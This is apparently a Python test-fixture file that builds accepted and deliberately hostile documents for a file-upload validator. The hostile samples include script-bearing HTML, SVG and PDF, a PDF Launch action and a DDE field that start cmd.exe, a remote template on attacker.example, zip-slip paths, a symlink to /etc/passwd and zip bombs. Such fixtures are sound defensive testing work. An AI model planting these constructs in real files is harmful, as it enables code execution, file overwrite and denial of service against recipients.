"""Documents of every accepted type, and hostile ones, made by hand."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

OFFICE = "application/vnd.openxmlformats-officedocument."
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{kind}"/></Types>'
)
RELATIONSHIPS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET = "spreadsheetml.sheet.main+xml"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCUMENT = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Nghị quyết</w:t></w:r></w:p>{{}}</w:body></w:document>'


def pdf(*objects: bytes, trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """Return a PDF with some further objects."""
    body = b"".join(b"%d 0 obj%sendobj\n" % (number, one) for number, one in enumerate(objects, 2))
    head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n"
    return head + body + b"trailer<</Root 1 0 R" + trailer + b">>\nstartxref\n0\n%%EOF\n" + tail


def object_stream(objects: bytes, filters: bytes = b"/Filter/FlateDecode", name: bytes = b"ObjStm") -> bytes:
    """Return a stream of objects of a PDF."""
    packed = zlib.compress(objects) if b"Flate" in filters else objects
    return b"<</Type/" + name + filters + b"/Length %d>>stream\n" % len(packed) + packed + b"\nendstream "


def zipped(entries: Mapping[str, bytes | str], kind: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    """Return a ZIP archive. An entry named mimetype is stored as it is."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.comment = comment
        for name, content in entries.items():
            archive.writestr(name, content, zipfile.ZIP_STORED if name == "mimetype" else kind)
    return output.getvalue()


def docx(parts: Mapping[str, bytes | str] | None = None, body: str = "", kind: str = "", links: str = "") -> bytes:
    """Return a Word document."""
    kind = kind or f"{OFFICE}wordprocessingml.document.main+xml"
    main = f'<Relationship Id="r1" Type="{RELATIONSHIP}officeDocument" Target="word/document.xml"/>'
    return zipped(
        {
            "[Content_Types].xml": TYPES.format(part="word/document.xml", kind=kind),
            "_rels/.rels": RELATIONSHIPS.format(main),
            "word/document.xml": DOCUMENT.format(body),
            "word/_rels/document.xml.rels": RELATIONSHIPS.format(links),
            **(parts or {}),
        }
    )


def link(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    """Return a relationship of a part to something elsewhere."""
    return f'<Relationship Id="r9" Type="{RELATIONSHIP}{kind}" Target="{target}"{mode}/>'


def xlsx(parts: Mapping[str, bytes | str] | None = None) -> bytes:
    """Return an Excel workbook."""
    kind = f"{OFFICE}spreadsheetml.sheet.main+xml"
    types = TYPES.format(part="xl/workbook.xml", kind=kind)
    return zipped({"[Content_Types].xml": types, "xl/workbook.xml": "<workbook/>", **(parts or {})})


def odt(parts: Mapping[str, bytes | str] | None = None, kind: str = "text") -> bytes:
    """Return an OpenDocument text."""
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}",
            "content.xml": "<office:document-content/>",
            "META-INF/manifest.xml": "<manifest/>",
            **(parts or {}),
        }
    )


def compound(streams: Mapping[str, bytes]) -> bytes:
    """Return a compound file (OLE) with streams, each in at most one storage: `Macros/VBA`."""
    names: list[tuple[str, int, int]] = [("Root Entry", 5, -1)]
    contents: dict[int, bytes] = {}
    for path, content in streams.items():
        folder, _, name = path.rpartition("/")
        above = 0
        if folder:
            known = [number for number, one in enumerate(names) if one == (folder, 1, 0)]
            above = known[0] if known else len(names)
            if not known:
                names.append((folder, 1, 0))
        contents[len(names)] = content.ljust(4_096, b"\0")
        names.append((name, 2, above))
    sectors: list[bytes] = []
    chains: list[int] = []

    def put(content: bytes) -> int:
        first = len(sectors)
        parts = [content[at : at + 512].ljust(512, b"\0") for at in range(0, len(content), 512)]
        sectors.extend(parts)
        chains.extend([*range(first + 1, first + len(parts)), 0xFFFFFFFE])
        return first

    starts = {number: put(content) for number, content in contents.items()}
    entries = []
    for number, (name, kind, above) in enumerate(names):
        siblings = [other for other, one in enumerate(names) if one[2] == above and other > number] if number else []
        children = [other for other, one in enumerate(names) if one[2] == number]
        encoded = name.encode("utf-16-le") + b"\0\0"
        entries.append(
            encoded.ljust(64, b"\0")
            + struct.pack(
                "<HBBIII",
                len(encoded),
                kind,
                1,
                0xFFFFFFFF,
                siblings[0] if siblings else 0xFFFFFFFF,
                children[0] if children else 0xFFFFFFFF,
            )
            + bytes(36)
            + struct.pack("<IQ", starts.get(number, 0xFFFFFFFE), len(contents.get(number, b"")))
        )
    directory = put(b"".join(entries).ljust(-(-len(entries) // 4) * 512, b"\0"))
    table_sectors = -(-(len(sectors) + 2) // 127)
    table = len(sectors)
    chains += [0xFFFFFFFD] * table_sectors
    packed = b"".join(struct.pack("<I", one) for one in chains).ljust(table_sectors * 512, b"\xff")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header += bytes(6) + struct.pack("<IIIIIIIII", 0, table_sectors, directory, 0, 4_096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += b"".join(struct.pack("<I", table + one) for one in range(table_sectors)).ljust(436, b"\xff")
    return header.ljust(512, b"\xff") + b"".join(sectors) + packed


def doc(streams: Mapping[str, bytes] | None = None, flags: int = 0, text: bytes = b"") -> bytes:
    """Return a Word document of before 2007."""
    head = struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x0409, 0, flags).ljust(1_472, b"\0")
    return compound({"WordDocument": head + text, "1Table": bytes(100), **(streams or {})})


def xls(*records: tuple[int, bytes], streams: Mapping[str, bytes] | None = None) -> bytes:
    """Return an Excel workbook of before 2007, with some records in its first part."""
    sheet = (0x85, struct.pack("<IBB", 0, 0, 0) + b"\5\0Sheet")
    every = [(0x809, bytes(16)), *records, sheet, (0x0A, b"")]
    book = b"".join(struct.pack("<HH", kind, len(content)) + content for kind, content in every)
    return compound({"Workbook": book, **(streams or {})})


ACCEPTED: dict[str, bytes] = {
    "bao-cao.pdf": pdf(),
    "van-ban.doc": doc(),
    "bang.xls": xls(),
    "van-ban.docx": docx(),
    "bang.xlsx": xlsx(),
    "van-ban.odt": odt(),
    "ho-so.zip": zipped({"doc/van-ban.docx": docx(), "anh.jpg": b"\xff\xd8\xff" + bytes(20), "ghi-chu.txt": "x"}),
}
"""A file of each accepted type."""


def renamed_entry(content: bytes, before: bytes, after: bytes) -> bytes:
    """Return an archive in which an entry has another name of the same length."""
    assert len(before) == len(after)
    return content.replace(before, after)


def overlapping() -> bytes:
    """Return an archive whose two entries share their content."""
    content = bytearray(zipped({"aaaa.txt": b"x" * 5_000, "bbbb.txt": b"x" * 5_000}, zipfile.ZIP_STORED))
    second = content.rindex(b"PK\x01\x02")
    content[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(content)


def lying() -> bytes:
    """Return an archive whose entry unpacks to more than its directory says."""
    content = bytearray(zipped({"a.txt": b"x" * 500_000}))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = content.index(mark)
        content[at + offset : at + offset + 4] = struct.pack("<I", 10)
    return bytes(content)


def encrypted_zip() -> bytes:
    """Return an archive that says that its entry is encrypted."""
    content = bytearray(zipped({"a.txt": b"secret"}))
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = content.index(mark)
        content[at + offset] |= 1
    return bytes(content)


def symbolic_link() -> bytes:
    """Return an archive with a symbolic link."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        entry = zipfile.ZipInfo("link.txt")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return output.getvalue()


def many_entries(count: int) -> bytes:
    """Return an archive with many empty entries."""
    return zipped({f"{number}.txt": b"" for number in range(count)}, zipfile.ZIP_STORED)


HOSTILE: dict[str, tuple[Any, str]] = {
    "HTML in a PDF's name": (b"<!doctype html><script>alert(1)</script>", "unsupported-type"),
    "SVG with a script": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "unsupported-type"),
    "HTML after a BOM": (b"\xef\xbb\xbf <html><body>", "unsupported-type"),
    "a PDF after HTML": (b"<html><script>alert(1)</script>" + pdf(), "polyglot"),
    "a PDF after a line of text": (b"MIME-Version: 1.0\n" + pdf(), "polyglot"),
    "HTML in the head of a PDF": (b"%PDF-1.7\n<script>alert(1)</script>\n" + pdf(), "polyglot"),
    "a PDF that is also a ZIP": (pdf(tail=zipped({"a.txt": b"x"})), "polyglot"),
    "a PDF with a ZIP in a stream at its end": (
        pdf(b"<<>>stream\n" + zipped({"a.exe": b"x"}, zipfile.ZIP_STORED) + b"\nendstream "),
        "polyglot",
    ),
    "a PDF with data after its end": (pdf(tail=b"<script>alert(1)</script>"), "polyglot"),
    "a PDF with JavaScript": (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "scripts"),
    "a PDF with an escaped name of JavaScript": (pdf(b"<</S/J#61vaScript>>"), "scripts"),
    "a PDF with JavaScript in packed objects": (pdf(object_stream(b"1 0 <</S/JavaScript/JS(x)>>")), "scripts"),
    "a PDF with packed objects of an escaped type": (
        pdf(object_stream(b"1 0 <</S/JavaScript>>", name=b"Obj#53tm")),
        "scripts",
    ),
    "a PDF whose objects are packed strangely": (pdf(object_stream(b"x", b"/Filter/LZWDecode")), "scripts"),
    "a PDF that starts programs": (pdf(b"<</S/Launch/F(cmd.exe)>>"), "scripts"),
    "an encrypted PDF": (pdf(trailer=b"/Encrypt 5 0 R"), "encrypted"),
    "a PDF that is cut off": (pdf()[:40], "damaged"),
    "a GIF that is also a JAR": (b"GIF89a" + bytes(20) + zipped({"A.class": b"x"}), "unsupported-type"),
    "a program": (b"MZ" + bytes(100), "unsupported-type"),
    "a program before a ZIP": (b"#!/bin/sh\n" + zipped({"a.txt": b"x"}), "unsupported-type"),
    "RTF": (b"{\\rtf1 x}", "unsupported-type"),
    "RAR": (b"Rar!\x1a\x07" + bytes(50), "unsupported-type"),
    "zeros": (bytes(5_000), "unsupported-type"),
    "a Word document with macros": (docx({"word/vbaProject.bin": b"x"}), "macros"),
    "a .docm in a .docx's name": (docx(kind=MACRO_WORD), "macros"),
    "a workbook with macros of Excel 4": (xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "a Word document with ActiveX": (docx({"word/activeX/activeX1.bin": b"x"}), "macros"),
    "a Word document with a template elsewhere": (
        docx(links=link("attachedTemplate", "https://attacker.example/a.dotm")),
        "external-content",
    ),
    "a Word document with an object elsewhere": (
        docx(links=link("oleObject", "file://attacker/x")),
        "external-content",
    ),
    "a Word document with a DDE field": (
        docx(body='<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
        "macros",
    ),
    "a Word document with a split DDE field": (
        docx(body="<w:instrText>DDE</w:instrText><w:instrText>AUTO x</w:instrText>"),
        "macros",
    ),
    "a presentation": (
        docx(kind=f"{OFFICE}presentationml.presentation.main+xml", parts={"ppt/x.xml": "x"}),
        "unsupported-type",
    ),
    "a template of Word": (docx(kind=f"{OFFICE}wordprocessingml.template.main+xml"), "unsupported-type"),
    "content types with entities": (docx({"[Content_Types].xml": "<!DOCTYPE x [<!ENTITY a 'b'>]><Types/>"}), "damaged"),
    "a .doc with macros": (doc({"Macros/VBA": b"x"}), "macros"),
    "a .doc with a packed program": (doc({"ObjectPool/\x01Ole10Native": b"MZ"}), "embedded-files"),
    "an encrypted .doc": (doc(flags=0x0100), "encrypted"),
    "an encrypted .docx": (compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "encrypted"),
    "a .xls with a project of macros": (xls(streams={"_VBA_PROJECT_CUR/VBA": b"x"}), "macros"),
    "a .xls with a sheet of macros": (xls((0x85, struct.pack("<IBB", 0, 0, 1) + b"\1\0M")), "macros"),
    "a .xls with a hidden sheet of macros": (xls((0x85, struct.pack("<IBB", 0, 2, 1) + b"\1\0M")), "macros"),
    "an encrypted .xls": (xls((0x2F, bytes(54))), "encrypted"),
    "a compound file of nothing": (compound({"Nothing": b"x"}), "unsupported-type"),
    "a message of Outlook": (compound({"__properties_version1.0": b"x"}), "unsupported-type"),
    "a compound file that is cut off": (doc()[:1_000], "damaged"),
    "an OpenDocument text with macros": (odt({"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "an encrypted OpenDocument text": (odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"}), "encrypted"),
    "an OpenDocument spreadsheet": (odt(kind="spreadsheet"), "unsupported-type"),
    "a packed mimetype": (
        zipped({"content.xml": "x", "mimetype": "application/vnd.oasis.opendocument.text"}),
        "damaged",
    ),
    "a ZIP with a program": (zipped({"ho-so/setup.exe": b"MZ"}), "programs"),
    "a ZIP with a program of another name": (zipped({"anh.jpg": b"MZ" + bytes(50)}), "programs"),
    "a ZIP with a script": (zipped({"doc.pdf.js": b"x"}), "programs"),
    "a ZIP with a page": (zipped({"index.html": b"<script>"}), "programs"),
    "a ZIP with a ZIP": (zipped({"b.zip": zipped({"c.txt": b"x"})}), "bomb"),
    "a ZIP with a renamed ZIP": (zipped({"b.txt": zipped({"c.txt": b"x"})}), "programs"),
    "a ZIP in a document's name in a ZIP": (zipped({"b.docx": zipped({"c.txt": b"x"})}), "unsupported-type"),
    "a ZIP with a document with macros": (zipped({"b.docx": docx({"word/vbaProject.bin": b"x"})}), "macros"),
    "a ZIP with HTML in a PDF's name": (zipped({"b.pdf": b"<html><script>"}), "unsupported-type"),
    "a ZIP that leaves its folder": (zipped({"../../etc/cron.d/x": b"x"}), "entry-name"),
    "a ZIP that leaves its folder on Windows": (zipped({"..\\..\\x.txt": b"x"}), "entry-name"),
    "a ZIP with an absolute path": (zipped({"/etc/passwd": b"x"}), "entry-name"),
    "a ZIP with a drive": (zipped({"C:x.txt": b"x"}), "entry-name"),
    "a ZIP with a turned name": (zipped({"anh\u202egpj.txt": b"x"}), "entry-name"),
    "a ZIP with a symbolic link": (symbolic_link, "entry-name"),
    "an encrypted ZIP": (encrypted_zip, "encrypted"),
    "a ZIP bomb by ratio": (lambda: zipped({"a.txt": bytes(40_000_000)}), "bomb"),
    "a ZIP bomb by count": (lambda: many_entries(10_001), "bomb"),
    "a ZIP bomb by overlap": (overlapping, "bomb"),
    "a ZIP that lies about its size": (lying, "damaged"),
    "a ZIP that is cut off": (zipped({"a.txt": b"x" * 100})[:-30], "damaged"),
    "a ZIP with data after it": (zipped({"a.txt": b"x"}) + b"<script>" * 10_000, "damaged"),
    "an empty ZIP": (b"PK\x05\x06" + bytes(18), "unsupported-type"),
}
"""Refused files, or functions that make them, with the reasons."""


def made(content: Any) -> bytes:
    """Return a refused file: its bytes, or what its function makes."""
    return bytes(content() if callable(content) else content)


def hostile(name: str) -> bytes:
    """Return a refused file of HOSTILE."""
    return made(HOSTILE[name][0])
